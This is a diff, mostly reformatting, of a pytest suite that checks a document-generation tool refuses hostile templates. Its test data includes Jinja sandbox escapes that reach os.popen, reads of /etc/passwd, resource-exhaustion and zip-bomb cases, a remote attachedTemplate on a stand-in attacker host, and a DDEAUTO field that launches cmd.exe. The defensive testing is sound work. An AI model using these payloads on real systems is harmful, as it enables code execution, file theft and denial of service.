@@ -7,6 +7,7 @@ Each is refused with exit status 1, a Chinese message naming the template, no
 traceback, nothing written in the output folder, and nothing changed anywhere
 else under the test's folder (where the payloads aim).
 """
+
 from __future__ import annotations
 
 import io
@@ -31,12 +32,18 @@ CASE = "txvip-rights-mismatch.yaml"
 WRITES = [
     ("write-via-picture", "{{ images[0].picture.tpl.write_xml('{target}') }}", "不存在的“tpl”"),
     ("write-via-picture-item", "{{ images[0]['picture']['tpl'].write_xml('{target}') }}", "不存在的“tpl”"),
-    ("save-via-context", "{{ self._TemplateReference__context.parent.images }}",
-     "以下划线开头的属性“_TemplateReference__context”"),
+    (
+        "save-via-context",
+        "{{ self._TemplateReference__context.parent.images }}",
+        "以下划线开头的属性“_TemplateReference__context”",
+    ),
     ("mutate-context", "{{ images.append({'path': '{target}'}) }}", "不能读取列表的“append”"),
     ("mutate-dict", "{{ images[0].update({'picture': 1}) }}", "不能读取数据项的“update”"),
-    ("popen-via-cycler", "{{ cycler.__init__.__globals__.os.popen('touch {target}') }}",
-     "以下划线开头的属性“__init__”"),
+    (
+        "popen-via-cycler",
+        "{{ cycler.__init__.__globals__.os.popen('touch {target}') }}",
+        "以下划线开头的属性“__init__”",
+    ),
 ]
 READS = [
     ("include-passwd", "{% include '/etc/passwd' %}", "不能引用其他文件（include）"),
@@ -67,12 +74,18 @@ EXHAUSTION = [
     ("huge-list", "{{ [1] * 10**9 }}", "列表超过上限（100,000 项）：乘法 1 × 1,000,000,000"),
     ("huge-power", "{{ 2 ** 1000000 }}", "乘方结果过大"),
     ("power-tower", "{{ 10 ** (10 ** (10 ** 10)) }}", "乘方结果过大"),
-    ("nested-loops", "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
-     "循环和调用次数超过上限"),
+    (
+        "nested-loops",
+        "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
+        "循环和调用次数超过上限",
+    ),
     ("doubling", "{% set a = 'x' * 9000000 %}{% set b = a ~ a %}{% set c = b ~ b %}{{ c ~ c }}", "文字超过上限"),
     ("output-flood", "{% set s = 'x' * 9000000 %}{% for i in range(9999) %}{{ s }}{% endfor %}", "内容超过上限"),
-    ("captured-flood", "{% set y %}{% for i in range(9999) %}{{ 'x' * 9000000 }}{% endfor %}{% endset %}",
-     "内容超过上限"),
+    (
+        "captured-flood",
+        "{% set y %}{% for i in range(9999) %}{{ 'x' * 9000000 }}{% endfor %}{% endset %}",
+        "内容超过上限",
+    ),
     ("replace-blowup", "{{ ('x' * 9000000)|replace('', 'yyyy') }}", "文字超过上限"),
     ("printf-width", "{{ '%999999999s' % title }}", "格式宽度过大"),
     ("center-width", "{{ title|center(10**9) }}", "不支持的过滤器“center”"),
@@ -92,7 +105,10 @@ def word_template(folder: Path, text: str, kind: str = KIND) -> Path:
     """A shipped Word template with one more paragraph, holding `text`, at the top of the body."""
     folder.mkdir(exist_ok=True)
     path = folder / f"{kind}.docx"
-    with zipfile.ZipFile(shipped_template(f"{kind}.docx")) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
+    with (
+        zipfile.ZipFile(shipped_template(f"{kind}.docx")) as zin,
+        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout,
+    ):
         for item in zin.infolist():
             data = zin.read(item.filename)
             if item.filename == "word/document.xml":
@@ -160,7 +176,9 @@ def test_hostile_word_template_is_refused(workspace, case_id):
     assert not (workspace / "pwned.pth").exists()
 
 
-@pytest.mark.parametrize("case_id", [c[0] for c in CORPUS if c[0] not in ("write-via-picture", "write-via-picture-item")])
+@pytest.mark.parametrize(
+    "case_id", [c[0] for c in CORPUS if c[0] not in ("write-via-picture", "write-via-picture-item")]
+)
 def test_hostile_text_template_is_refused(workspace, case_id):
     folder = workspace / "tpl"
     text_template(folder, tag_in(case_id, workspace))
@@ -231,6 +249,7 @@ def test_a_refused_template_leaves_an_existing_case_folder_as_it_was(workspace):
 
 # ------------------------------------------------------------------------- files that are not templates
 
+
 def declare(data: bytes, sizes: dict[str, int]) -> bytes:
     """The zip `data` with its directory declaring the given unpacked sizes for the named entries."""
     data = bytearray(data)
@@ -239,9 +258,9 @@ def declare(data: bytes, sizes: dict[str, int]) -> bytes:
     end = data.rfind(b"PK\x05\x06")
     offset = struct.unpack_from("<L", data, end + 16)[0]
     for _ in range(count):  # walk the central directory
-        assert data[offset:offset + 4] == b"PK\x01\x02"
+        assert data[offset : offset + 4] == b"PK\x01\x02"
         name_len, extra_len, comment_len = struct.unpack_from("<3H", data, offset + 28)
-        name = data[offset + 46:offset + 46 + name_len].decode()
+        name = data[offset + 46 : offset + 46 + name_len].decode()
         if name in sizes:
             struct.pack_into("<L", data, offset + 24, sizes[name])
         offset += 46 + name_len + extra_len + comment_len
@@ -271,21 +290,41 @@ def zip_without_a_document() -> bytes:
     return out.getvalue()
 
 
-GBK_ON_LINE_3 = "【{{ title }}】\n{{ intro }}\n".encode("utf-8") + "落款：{{ signer }}\n".encode("gbk")
+GBK_ON_LINE_3 = "【{{ title }}】\n{{ intro }}\n".encode() + "落款：{{ signer }}\n".encode("gbk")
 
 # (id, file name, its bytes, what the refusal says)
 BAD_FILES = [
-    ("gbk-text", f"{KIND}.txt", lambda: "【{{ title }}】\n申请人：{{ signer }}\n".encode("gbk"),
-     "第1行不是 UTF-8 编码的文字（看起来是以 GBK/GB2312 编码保存的）"),
+    (
+        "gbk-text",
+        f"{KIND}.txt",
+        lambda: "【{{ title }}】\n申请人：{{ signer }}\n".encode("gbk"),
+        "第1行不是 UTF-8 编码的文字（看起来是以 GBK/GB2312 编码保存的）",
+    ),
     ("gbk-on-line-3", f"{KIND}.txt", lambda: GBK_ON_LINE_3, "第3行不是 UTF-8 编码的文字"),
-    ("old-doc", f"{KIND}.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000,
-     "是旧版 Word 97-2003 文档（.doc），只是扩展名改成了 .docx"),
-    ("not-a-zip", f"{KIND}.docx", lambda: "这其实是一段文字，不是 Word 文件".encode("utf-8"),
-     "不是 Word 文档（.docx 文件应是 zip 压缩包，这个文件不是）"),
-    ("declared-bomb", f"{KIND}.docx", lambda: declare(shipped_docx(), {"word/styles.xml": 4_000_000_000}),
-     "解压后过大，未使用"),
-    ("part-bomb", f"{KIND}.docx", lambda: declare(shipped_docx(), {"word/document.xml": 40_000_000}),
-     "word/document.xml 解压后 40,000,000 字节"),
+    (
+        "old-doc",
+        f"{KIND}.docx",
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000,
+        "是旧版 Word 97-2003 文档（.doc），只是扩展名改成了 .docx",
+    ),
+    (
+        "not-a-zip",
+        f"{KIND}.docx",
+        lambda: "这其实是一段文字，不是 Word 文件".encode(),
+        "不是 Word 文档（.docx 文件应是 zip 压缩包，这个文件不是）",
+    ),
+    (
+        "declared-bomb",
+        f"{KIND}.docx",
+        lambda: declare(shipped_docx(), {"word/styles.xml": 4_000_000_000}),
+        "解压后过大，未使用",
+    ),
+    (
+        "part-bomb",
+        f"{KIND}.docx",
+        lambda: declare(shipped_docx(), {"word/document.xml": 40_000_000}),
+        "word/document.xml 解压后 40,000,000 字节",
+    ),
     ("lying-zip", f"{KIND}.docx", lying_zip, "不是完好的 Word 文档"),
     ("zip-not-word", f"{KIND}.docx", zip_without_a_document, "不是完好的 Word 文档"),
     ("empty-docx", f"{KIND}.docx", lambda: b"", "不是 Word 文档"),
@@ -324,22 +363,44 @@ def word_with(extra: dict[str, bytes] | None = None, body: str = "", rels: str =
 
 
 OUTSIDE = [
-    ("attached-remote-template", lambda: word_with({"word/_rels/settings.xml.rels": (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://attacker.example/t.dotm" '
-        'TargetMode="External"/></Relationships>').encode()}),
-     "指向文件外部的引用（attachedTemplate：http://attacker.example/t.dotm）"),
-    ("linked-picture", lambda: word_with(rels=f'<Relationship Id="rId99" Type="{RELS}/image" '
-                                              'Target="file:///etc/passwd" TargetMode="External"/>'),
-     "指向文件外部的引用（image：file:///etc/passwd）"),
-    ("includetext-field", lambda: word_with(body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; ">'
-                                                 '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
-     "word/document.xml 含有会读取外部文件或程序的域代码（INCLUDETEXT）"),
-    ("dde-field", lambda: word_with(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
-                                         '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText>'
-                                         '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
-     "域代码（DDEAUTO）"),
+    (
+        "attached-remote-template",
+        lambda: word_with(
+            {
+                "word/_rels/settings.xml.rels": (
+                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://attacker.example/t.dotm" '
+                    'TargetMode="External"/></Relationships>'
+                ).encode()
+            }
+        ),
+        "指向文件外部的引用（attachedTemplate：http://attacker.example/t.dotm）",
+    ),
+    (
+        "linked-picture",
+        lambda: word_with(
+            rels=f'<Relationship Id="rId99" Type="{RELS}/image" Target="file:///etc/passwd" TargetMode="External"/>'
+        ),
+        "指向文件外部的引用（image：file:///etc/passwd）",
+    ),
+    (
+        "includetext-field",
+        lambda: word_with(
+            body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; ">'
+            "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
+        ),
+        "word/document.xml 含有会读取外部文件或程序的域代码（INCLUDETEXT）",
+    ),
+    (
+        "dde-field",
+        lambda: word_with(
+            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
+            '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText>'
+            '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        ),
+        "域代码（DDEAUTO）",
+    ),
 ]
 
 
@@ -358,9 +419,14 @@ def test_a_hyperlink_in_a_template_is_kept(workspace):
     """A link the reader clicks reaches nothing by itself: such a template is used as written."""
     folder = workspace / "tpl"
     folder.mkdir()
-    link = ('<w:p><w:hyperlink r:id="rId98"><w:r><w:t>全国12315平台</w:t></w:r></w:hyperlink></w:p>')
-    (folder / f"{KIND}.docx").write_bytes(word_with(body=link, rels=f'<Relationship Id="rId98" Type="{RELS}/hyperlink" '
-                                                                   'Target="https://www.12315.cn/" TargetMode="External"/>'))
+    link = '<w:p><w:hyperlink r:id="rId98"><w:r><w:t>全国12315平台</w:t></w:r></w:hyperlink></w:p>'
+    (folder / f"{KIND}.docx").write_bytes(
+        word_with(
+            body=link,
+            rels=f'<Relationship Id="rId98" Type="{RELS}/hyperlink" '
+            'Target="https://www.12315.cn/" TargetMode="External"/>',
+        )
+    )
     assert check(folder).exit_code == 0
     out = workspace / "out"
     result = CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out), "--templates", str(folder)])
@@ -373,6 +439,7 @@ def test_a_hyperlink_in_a_template_is_kept(workspace):
 def test_a_hostile_document_property_is_refused_and_placed(workspace):
     """docxtpl renders the title, subject … of the file too: a tag there runs in the same sandbox."""
     from docx import Document
+
     folder = workspace / "tpl"
     folder.mkdir()
     path = folder / f"{KIND}.docx"
